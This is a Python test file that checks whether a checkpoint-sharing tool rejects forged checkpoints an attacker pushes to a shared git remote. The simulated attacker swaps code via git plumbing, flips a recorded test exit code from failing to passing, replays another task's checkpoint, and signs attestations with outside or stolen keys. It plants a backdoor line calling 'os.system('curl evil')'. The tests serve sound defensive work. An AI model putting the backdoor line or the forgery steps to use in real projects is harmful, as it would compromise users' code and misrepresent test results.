"""Checkpoint attestations: a fetched checkpoint is taken only as its author signed it.

Three real stores' worth of people over a bare remote: the owner (alice, store A), a recipient
(bob, store B, his own age identity and signing key on the task's roster) and an attacker who
can push to the remote but holds no key of the task. The attacker rewrites checkpoint commits
with git plumbing in a bare clone of the remote and force-pushes them; bob's fetch must refuse
each forged checkpoint with one line, take everything else, and never let `validate` or
`checkout` see the attacker's code.
"""

from __future__ import annotations

import filecmp
import hashlib
import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pyrage
import pytest

from core.engine import CheckpointRequest, Engine
from core.errors import PitstopError
from core.ledger.fact_format import CHECKPOINT, encode_fact, fact_path, fact_uid
from core.ledger.local_facts import plain_fact
from core.models import CheckpointReason
from core.security import signing
from tests.core.corekit import git, init_repo, write

BACKDOOR = "BACKDOOR-MARK-0d1e5e"


@dataclass
class People:
    """The owner's and the recipient's identities (age secret, public signing key)."""

    alice: str
    bob: str
    bob_recipient: str
    bob_signer: str
    monkeypatch: pytest.MonkeyPatch

    def be(self, who: str) -> None:
        """Act as `who` from now on (their identity, and the signing key derived from it)."""
        self.monkeypatch.setenv("PITSTOP_IDENTITY", getattr(self, who))


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    """A project on a bare remote, the author's clone, and the recipient's clone."""
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    files = {f"src/mod{n}.py": f"value = {n}\n" for n in range(8)}
    files["README.md"] = "# project\n"
    author = init_repo(tmp_path / "author", files)
    git(author, "remote", "add", "origin", "../remote.git")
    git(author, "push", "-q", "origin", "HEAD:refs/heads/main")
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "-q", str(remote), str(other)], check=True)
    return {"remote": remote, "author": author, "other": other, "tmp": tmp_path}


@pytest.fixture
def people(monkeypatch: pytest.MonkeyPatch) -> Iterator[People]:
    alice = os.environ["PITSTOP_IDENTITY"]
    bob = str(pyrage.x25519.Identity.generate())
    monkeypatch.setenv("PITSTOP_IDENTITY", bob)
    bob_signer = signing.load_signing_key().public
    monkeypatch.setenv("PITSTOP_IDENTITY", alice)
    recipient = str(pyrage.x25519.Identity.from_str(bob).to_public())
    yield People(alice, bob, recipient, bob_signer, monkeypatch)


def _task(a: Engine, world: dict[str, Path], people: People, exit_code: int = 1) -> str:
    """Alice's task, shared with bob: checkpoint @1, then @2 with failing evidence."""
    repo = world["author"]
    task = a.start_task(repo=repo, objective="Migrate billing")
    a.share_task(task.id, [people.bob_recipient], signer=people.bob_signer, label="bob")
    write(repo / "src/mod1.py", "value = 'first'\n")
    a.checkpoint(task.id, CheckpointRequest(reason=CheckpointReason.MILESTONE, note="one"))
    write(repo / "src/mod2.py", "value = 'second'\n")
    write(repo / "notes.txt", "untracked but kept\n")
    log = write(world["tmp"] / "pytest.log", "collected 3 items\n1 failed, 2 passed\n")
    a.add_evidence_file(task.id, log, command="pytest -q", exit_code=exit_code, duration_s=1.5)
    a.checkpoint(task.id, CheckpointRequest(reason=CheckpointReason.MILESTONE, note="two"))
    return task.id


class Attacker:
    """Someone who can push to the remote and holds no key: git plumbing in a bare clone."""

    def __init__(self, remote: Path, tmp: Path) -> None:
        self.remote = remote
        self.repo = tmp / "attacker.git"
        self.index = tmp / "attacker.index"
        subprocess.run(["git", "init", "-q", "--bare", str(self.repo)], check=True)
        self.git(
            "fetch",
            "-q",
            str(remote),
            "+refs/pitstop/*:refs/pitstop/*",
            "+refs/heads/*:refs/heads/*",
        )

    def git(self, *args: str, data: bytes | None = None) -> str:
        env = {**os.environ, "GIT_INDEX_FILE": str(self.index)}
        proc = subprocess.run(
            ["git", f"--git-dir={self.repo}", *args], input=data, capture_output=True, env=env
        )
        assert proc.returncode == 0, proc.stderr.decode(errors="replace")
        return proc.stdout.decode(errors="surrogateescape").strip()

    def blob(self, spec: str) -> bytes:
        env = {**os.environ}
        return subprocess.run(
            ["git", f"--git-dir={self.repo}", "cat-file", "blob", spec],
            capture_output=True, check=True, env=env,
        ).stdout  # fmt: skip

    def tip(self, kind: str, task_id: str) -> str:
        return self.git("rev-parse", f"refs/pitstop/{kind}/{task_id}")

    def rewrite(
        self, commit: str, edits: dict[str, bytes | None], parents: list[str] | None = None
    ) -> str:
        """`commit` with files replaced, added or (None) removed; same parents and message."""
        self.index.unlink(missing_ok=True)
        self.git("read-tree", f"{commit}^{{tree}}")
        lines = []
        for path, data in edits.items():
            if data is None:
                lines.append(f"0 {'0' * 40}\t{path}")
            else:
                oid = self.git("hash-object", "-w", "--stdin", data=data)
                lines.append(f"100644 {oid}\t{path}")
        self.git("update-index", "--index-info", data=("\n".join(lines) + "\n").encode())
        tree = self.git("write-tree")
        if parents is None:
            parents = self.git("rev-list", "--parents", "-n", "1", commit).split()[1:]
        message = self.git("log", "-1", "--format=%B", commit)
        args = [arg for parent in parents for arg in ("-p", parent)]
        return self.git("commit-tree", tree, *args, "-m", message)

    def push(self, commit: str, ref: str) -> None:
        self.git("push", "-q", "--force", str(self.remote), f"{commit}:{ref}")

    def describe(self, task_id: str, commit: str, **lies: object) -> dict[str, object]:
        """The attestation fields of `commit` as the format defines them (or with `lies`)."""
        listing = self.blob(f"{commit}:checkpoint.json")
        facts = json.loads(listing)

        def sha(spec: str) -> str | None:
            try:
                return hashlib.sha256(self.blob(spec)).hexdigest()
            except subprocess.CalledProcessError:
                return None

        fields: dict[str, object] = {
            "seq": facts["seq"],
            "commit": commit,
            "checkpoint_sha256": hashlib.sha256(listing).hexdigest(),
            "header_sha256": sha(f"{commit}:pitstop.json"),
            "manifest_sha256": sha(f"{commit}:manifest.enc"),
            "note_sha256": sha(f"{commit}:note.enc"),
            "worktree_tree": self.git("rev-parse", f"{commit}:worktree"),
            "index_tree": self.git("rev-parse", f"{commit}:index"),
            "evidence": {
                str(i): sha(f"{commit}:evidence/{i}/item.json") for i in facts["evidence"]
            },
        }
        fields.update(lies)
        return plain_fact(CHECKPOINT, task_id, **fields)

    def add_fact(self, task_id: str, plain: dict[str, object], key: signing.SigningKey) -> None:
        """Write a properly signed v2 fact into the task's remote ledger, as a new commit."""
        tip = self.tip("ledger", task_id)
        path = fact_path(fact_uid(plain), CHECKPOINT)
        commit = self.rewrite(tip, {path: encode_fact(plain, None, key)}, parents=[tip])
        self.push(commit, f"refs/pitstop/ledger/{task_id}")


def _fetch_as_bob(world: dict[str, Path], people: People, task_id: str) -> dict[str, object]:
    people.be("bob")
    with Engine(world["tmp"] / "store-b") as b:
        result = b.fetch([task_id], repo=world["other"])
    return result.fetched[task_id]


def _assert_bob_has_only_seq_1(world: dict[str, Path], people: People, task_id: str) -> None:
    """Bob holds @1 only: no row, evidence or ref for @2, and no checkout shows the backdoor."""
    people.be("bob")
    with Engine(world["tmp"] / "store-b") as b:
        assert [c.seq for c in b.list_checkpoints(task_id)] == [1]
        assert b.list_evidence(task_id) == []
        with pytest.raises(PitstopError):
            b.validate(f"{task_id}@2", offline=True)
        into = world["tmp"] / "bob-checkout"
        b.checkout(task_id, into)
        assert (into / "src/mod1.py").read_text() == "value = 'first'\n"
        for path in into.rglob("*"):
            assert not path.is_file() or BACKDOOR.encode() not in path.read_bytes(), path
        (store_repo,) = (world["tmp"] / "store-b" / "repos").glob("*.git")
        ref = git(store_repo, "rev-parse", f"refs/pitstop/checkpoints/{task_id}").strip()
        assert ref == b.get_checkpoint(f"{task_id}@1").commit


def _refused_line(outcome: dict[str, object], task_id: str, why: str) -> None:
    refused = outcome["refused_checkpoints"]
    assert isinstance(refused, list) and len(refused) == 1, refused
    assert refused[0].startswith(f"checkpoint {task_id}@2 refused: "), refused
    assert why in refused[0], refused
    assert "\n" not in refused[0]


def _pushed_task(world: dict[str, Path], people: People) -> tuple[str, str]:
    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        task_id = _task(a, world, people)
        approval = a.request_approval(task_id, "deploy preview")
        a.push([task_id])
    return task_id, approval.id


def test_a_swapped_worktree_tree_is_refused_and_never_checked_out(
    world: dict[str, Path], people: People
) -> None:
    task_id, approval_id = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    forged = attacker.rewrite(
        attacker.tip("checkpoints", task_id),
        {
            "worktree/src/mod1.py": f"import os; os.system('curl evil') # {BACKDOOR}\n".encode(),
            "worktree/backdoor.py": BACKDOOR.encode(),
        },
    )
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")

    outcome = _fetch_as_bob(world, people, task_id)
    assert outcome["checkpoints"] == 1, "the valid checkpoint before it is still taken"
    _refused_line(outcome, task_id, f"names commit {forged[:12]}")
    _assert_bob_has_only_seq_1(world, people, task_id)
    with Engine(world["tmp"] / "store-b") as b:
        assert b.get_approval(approval_id).action == "deploy preview", "the ledger was taken"
        # fetching again refuses it again, and still writes nothing of it
        again = b.fetch([task_id], repo=world["other"]).fetched[task_id]
        assert again["checkpoints"] == 0 and len(again["refused_checkpoints"]) == 1
        assert [c.seq for c in b.list_checkpoints(task_id)] == [1]


def test_a_forged_exit_code_is_refused(world: dict[str, Path], people: People) -> None:
    task_id, _ = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    tip = attacker.tip("checkpoints", task_id)
    items = [
        p
        for p in attacker.git("ls-tree", "-r", "--name-only", tip).split()
        if p.endswith("item.json")
    ]
    (item,) = items
    body = attacker.blob(f"{tip}:{item}")
    assert b'"exit_code":1' in body
    forged = attacker.rewrite(tip, {item: body.replace(b'"exit_code":1', b'"exit_code":0')})
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")

    outcome = _fetch_as_bob(world, people, task_id)
    _refused_line(outcome, task_id, "no attestation")
    _assert_bob_has_only_seq_1(world, people, task_id)


def test_changed_checkpoint_counts_are_refused(world: dict[str, Path], people: People) -> None:
    task_id, _ = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    tip = attacker.tip("checkpoints", task_id)
    listing = json.loads(attacker.blob(f"{tip}:checkpoint.json"))
    listing.update(changed_count=0, left_out_count=0, reason="manual")
    forged = attacker.rewrite(
        tip,
        {"checkpoint.json": json.dumps(listing, sort_keys=True, separators=(",", ":")).encode()},
    )
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")

    outcome = _fetch_as_bob(world, people, task_id)
    _refused_line(outcome, task_id, "no attestation")
    _assert_bob_has_only_seq_1(world, people, task_id)


def test_an_attestation_signed_by_a_non_member_is_not_admitted(
    world: dict[str, Path], people: People
) -> None:
    task_id, _ = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    forged = attacker.rewrite(
        attacker.tip("checkpoints", task_id), {"worktree/backdoor.py": BACKDOOR.encode()}
    )
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")
    # a proper v2 fact, vouching for the forged commit field for field, signed by the attacker
    attacker.add_fact(task_id, attacker.describe(task_id, forged), signing.create_signing_key())

    outcome = _fetch_as_bob(world, people, task_id)
    _refused_line(outcome, task_id, "no attestation signed by a member")
    ledger = outcome["ledger"]
    assert isinstance(ledger, dict)
    assert any(
        "checkpoint fact" in line and "does not admit" in line for line in ledger["rejected"]
    )
    _assert_bob_has_only_seq_1(world, people, task_id)


@pytest.mark.parametrize("lie", ["honest_trees", "lying_trees"])
def test_a_stolen_signing_key_alone_cannot_swap_the_tree(
    world: dict[str, Path], people: People, lie: str
) -> None:
    """Even an attestation a member's key signed does not pass a tree the sealed manifest does
    not record (the signing key leaked, the data key did not)."""
    task_id, _ = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    honest = attacker.tip("checkpoints", task_id)
    forged = attacker.rewrite(honest, {"worktree/backdoor.py": BACKDOOR.encode()})
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")
    if lie == "honest_trees":  # the forged commit, with the trees of the honest one
        plain = attacker.describe(
            task_id, forged, worktree_tree=attacker.git("rev-parse", f"{honest}:worktree")
        )
        why = "its worktree/ tree differs from what its author signed"
    else:  # the forged commit exactly as it is
        plain = attacker.describe(task_id, forged)
        why = "its worktree/ tree is not the one its sealed manifest records"
    attacker.add_fact(task_id, plain, signing.load_signing_key())  # alice's key

    outcome = _fetch_as_bob(world, people, task_id)
    _refused_line(outcome, task_id, why)
    _assert_bob_has_only_seq_1(world, people, task_id)


@pytest.mark.parametrize("part", ["evidence", "checkpoint_sha256", "header_sha256", "seq"])
def test_every_part_an_attestation_names_is_compared(
    world: dict[str, Path], people: People, part: str
) -> None:
    """An attestation naming the forged commit but the honest hash of one part (as a SHA-1
    collision on the commit id would give) is refused for that part."""
    task_id, _ = _pushed_task(world, people)
    attacker = Attacker(world["remote"], world["tmp"])
    honest = attacker.tip("checkpoints", task_id)
    (item,) = [
        path
        for path in attacker.git("ls-tree", "-r", "--name-only", honest).split()
        if path.endswith("item.json")
    ]
    edits = {
        "evidence": (item, b'"exit_code":1', b'"exit_code":0'),
        "checkpoint_sha256": ("checkpoint.json", b'"reason":"milestone"', b'"reason":"manual"'),
        "header_sha256": ("pitstop.json", b'"seq": 2', b'"seq": 2 '),
        "seq": ("worktree/backdoor.py", b"", BACKDOOR.encode()),
    }
    path, old, new = edits[part]
    body = attacker.blob(f"{honest}:{path}") if old else b""
    assert old in body
    forged = attacker.rewrite(honest, {path: body.replace(old, new) if old else new})
    attacker.push(forged, f"refs/pitstop/checkpoints/{task_id}")
    truth = attacker.describe(task_id, honest)
    lie = {part: 3} if part == "seq" else {part: truth[part]}
    attacker.add_fact(
        task_id, attacker.describe(task_id, forged, **lie), signing.load_signing_key()
    )

    outcome = _fetch_as_bob(world, people, task_id)
    shown = {
        "evidence": "its evidence index",
        "checkpoint_sha256": "its checkpoint.json",
        "header_sha256": "its pitstop.json header",
        "seq": "its sequence number",
    }
    _refused_line(outcome, task_id, shown[part])
    _assert_bob_has_only_seq_1(world, people, task_id)


def test_a_checkpoint_of_another_task_replayed_under_this_one_is_refused(
    world: dict[str, Path], people: People
) -> None:
    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        victim = _task(a, world, people)
        other = a.start_task(repo=world["author"], objective="Another task").id
        a.share_task(other, [people.bob_recipient], signer=people.bob_signer, label="bob")
        write(world["author"] / "src/mod3.py", f"# {BACKDOOR}\n")
        a.checkpoint(other, CheckpointRequest(reason=CheckpointReason.MILESTONE))
        a.push([victim, other])
    attacker = Attacker(world["remote"], world["tmp"])
    # the other task's valid checkpoint commit, and its attestation, moved under the victim
    replayed = attacker.tip("checkpoints", other)
    attacker.push(replayed, f"refs/pitstop/checkpoints/{victim}")
    ledger_files = attacker.git("ls-tree", "-r", "--name-only", attacker.tip("ledger", other))
    moved = {}
    for path in ledger_files.split():
        body = attacker.blob(f"{attacker.tip('ledger', other)}:{path}")
        if path.startswith("facts/") and b'"kind":"checkpoint"' in body:
            moved[path] = body
    assert moved
    tip = attacker.tip("ledger", victim)
    attacker.push(attacker.rewrite(tip, moved, parents=[tip]), f"refs/pitstop/ledger/{victim}")

    people.be("bob")
    with Engine(world["tmp"] / "store-b") as b:
        outcome = b.fetch([victim], repo=world["other"]).fetched[victim]
        assert outcome["checkpoints"] == 0
        (line,) = outcome["refused_checkpoints"]
        # refused on its own checkpoint.json (it names the other task) before its attestation
        # is even looked for; and that attestation is refused in the ledger as moved
        assert line.startswith(f"a checkpoint of {victim} refused: ")
        assert f"belongs to task {other!r}" in line and "\n" not in line
        assert any("moved between tasks" in r for r in outcome["ledger"]["rejected"])
        assert b.list_checkpoints(victim) == []


def _check_out_matches(b: Engine, ref: str, author: Path, into: Path) -> None:
    b.checkout(ref, into)
    for name in ("src/mod1.py", "src/mod2.py", "notes.txt", "README.md"):
        assert filecmp.cmp(into / name, author / name, shallow=False), name
    assert b.validate(ref, offline=True).verdict.value in ("ready", "ready_with_warnings")


@pytest.mark.parametrize("sealed", [False, True], ids=["plain", "encrypt-worktree"])
def test_the_legitimate_flow_still_works(
    world: dict[str, Path], people: People, sealed: bool
) -> None:
    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        task_id = _task(a, world, people, exit_code=0)
        assert a.push([task_id], seal_worktree=sealed).tasks[task_id]["checkpoints_sent"] == 2
        assert a.push([task_id]).tasks[task_id] == {"checkpoints_sent": 0, "ledger_updated": False}
    outcome = _fetch_as_bob(world, people, task_id)
    assert outcome["checkpoints"] == 2 and outcome["refused_checkpoints"] == []
    with Engine(world["tmp"] / "store-b") as b:
        _check_out_matches(b, f"{task_id}@2", world["author"], world["tmp"] / "bob-2")
        (item,) = b.list_evidence(task_id)
        assert item.exit_code == 0
        # bob continues the task: his checkpoint, attested by his key, reaches alice
        write(world["other"] / "src/mod4.py", "value = 'from bob'\n")
        b.checkpoint(task_id, CheckpointRequest(reason=CheckpointReason.MILESTONE))
        assert b.push([task_id], seal_worktree=sealed).tasks[task_id]["checkpoints_sent"] == 1
    people.be("alice")
    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        result = a.fetch([task_id]).fetched[task_id]
        assert result["checkpoints"] == 1 and result["refused_checkpoints"] == []
        assert [c.seq for c in a.list_checkpoints(task_id)] == [1, 2, 3]


def test_checkpoints_exported_before_attestations_are_attested_on_the_next_push(
    world: dict[str, Path], people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    from core.sharing import checkpoint_export

    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        task_id = _task(a, world, people, exit_code=0)
        with monkeypatch.context() as old:  # as an older Pitstop exported them: no attestation
            old.setattr(checkpoint_export, "attest", lambda *args: None)
            a.push([task_id])
    outcome = _fetch_as_bob(world, people, task_id)
    assert outcome["checkpoints"] == 0
    (line,) = outcome["refused_checkpoints"]
    assert line.startswith(f"checkpoint {task_id}@1 refused: no attestation")
    assert line.endswith("(nor the 1 after it, which build on it)")

    people.be("alice")
    with Engine(world["tmp"] / "store-a", actor="alice") as a:
        again = a.push([task_id]).tasks[task_id]
        assert again == {"checkpoints_sent": 0, "ledger_updated": True}, "attested, not rebuilt"
        assert a.push([task_id]).tasks[task_id]["ledger_updated"] is False
    outcome = _fetch_as_bob(world, people, task_id)
    assert outcome["checkpoints"] == 2 and outcome["refused_checkpoints"] == []
    with Engine(world["tmp"] / "store-b") as b:
        _check_out_matches(b, f"{task_id}@2", world["author"], world["tmp"] / "bob-2")
